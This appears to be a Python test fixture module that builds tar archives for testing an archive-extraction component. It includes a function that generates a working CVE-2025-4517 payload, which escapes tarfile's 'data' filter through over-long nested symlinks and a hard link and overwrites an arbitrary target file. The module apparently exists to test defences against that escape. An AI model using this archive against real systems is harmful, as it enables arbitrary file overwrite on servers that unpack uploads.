"""Tar archives built member by member, for the tests of storage.archive and of the routes that use it."""

import io
import tarfile

GIB = 1 << 30


def member(name, *, kind=tarfile.REGTYPE, data=b"", linkname="", size=None):
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.size = kind, linkname, len(data) if size is None else size
    return info, data


def tar_of(*members) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as tar:
        for info, data in members:
            tar.addfile(info, io.BytesIO(data) if info.isreg() else None)
    return out.getvalue()


def bare_header(name: str, kind: bytes, size: int) -> bytes:
    """A header that announces `size` bytes which never follow (tarfile would write them)."""
    info = tarfile.TarInfo(name)
    info.type, info.size = kind, size
    return info.tobuf(format=tarfile.USTAR_FORMAT)


def cve_2025_4517(target_file, *, dest, name="metrics.json") -> bytes:
    """The published shape that gets past tarfile's 'data' filter on Python 3.11.7 (checked by hand:
    extractall(filter="data") overwrites target_file): folders and symlinks nested until the resolved
    path outgrows PATH_MAX, where os.path.realpath stops resolving; a symlink out through them; a hard
    link to target_file through that; then a regular file of the same name, written into its inode.
    `dest` is the folder the archive is unpacked into: the symlink climbs exactly out of it."""
    step_dir, members, path = "d" * 247, [], ""
    for step in "abcdefghijklmnop":
        members += [member(f"{path}{step_dir}", kind=tarfile.DIRTYPE),
                    member(f"{path}{step}", kind=tarfile.SYMTYPE, linkname=step_dir)]
        path += step_dir + "/"
    deep_link = "/".join("abcdefghijklmnop") + "/" + "l" * 254
    members += [member(deep_link, kind=tarfile.SYMTYPE, linkname="../" * 16),
                member("escape", kind=tarfile.SYMTYPE, linkname=deep_link + "/" + "../" * (len(dest.parts) - 1) +
                       str(target_file.parent).lstrip("/")),
                member(name, kind=tarfile.LNKTYPE, linkname=f"escape/{target_file.name}"),
                member(name, data=b"overwritten\n")]
    return tar_of(*members)
